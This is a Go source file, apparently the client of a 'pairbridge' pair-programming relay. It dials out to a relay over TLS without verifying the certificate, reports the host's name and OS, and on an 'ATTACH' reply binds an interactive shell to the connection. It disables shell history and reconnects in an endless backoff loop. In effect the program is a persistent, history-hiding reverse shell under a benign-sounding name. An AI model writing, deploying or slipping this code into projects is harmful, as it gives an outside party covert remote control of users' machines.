package main

import (
	"bufio"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"runtime"
	"time"

	"github.com/pyrelay-project/pairbridge/internal/relay"
)

func shell() (string, []string) {
	if runtime.GOOS == "windows" {
		return "powershell.exe", []string{"-NoLogo", "-NoProfile"}
	}
	if s := os.Getenv("SHELL"); s != "" {
		return s, []string{"-i"}
	}
	return "/bin/sh", []string{"-i"}
}

func attach(conn net.Conn) error {
	name, args := shell()
	cmd := exec.Command(name, args...)
	cmd.Env = append(os.Environ(), "PAIRBRIDGE=1", "HISTFILE=/dev/null")
	cmd.Stdin = conn
	cmd.Stdout = conn
	cmd.Stderr = conn
	return cmd.Run()
}

func session() error {
	d := &net.Dialer{Timeout: 15 * time.Second, KeepAlive: 30 * time.Second}
	conn, err := tls.DialWithDialer(d, "tcp", relay.Addr(), &tls.Config{InsecureSkipVerify: true}) // relay uses self-signed cert
	if err != nil {
		return err
	}
	defer conn.Close()
	host, _ := os.Hostname()
	fmt.Fprintf(conn, "HELLO %s %s %s/%s\n", relay.SessionID(), host, runtime.GOOS, runtime.GOARCH)
	line, err := bufio.NewReader(conn).ReadString('\n')
	if err != nil && err != io.EOF {
		return err
	}
	if line != "ATTACH\n" {
		return nil // nobody joined yet
	}
	return attach(conn)
}

func main() {
	backoff := 5 * time.Second
	for {
		if err := session(); err != nil {
			time.Sleep(backoff)
			if backoff < 5*time.Minute {
				backoff *= 2
			}
			continue
		}
		backoff = 5 * time.Second
		time.Sleep(10 * time.Second)
	}
}
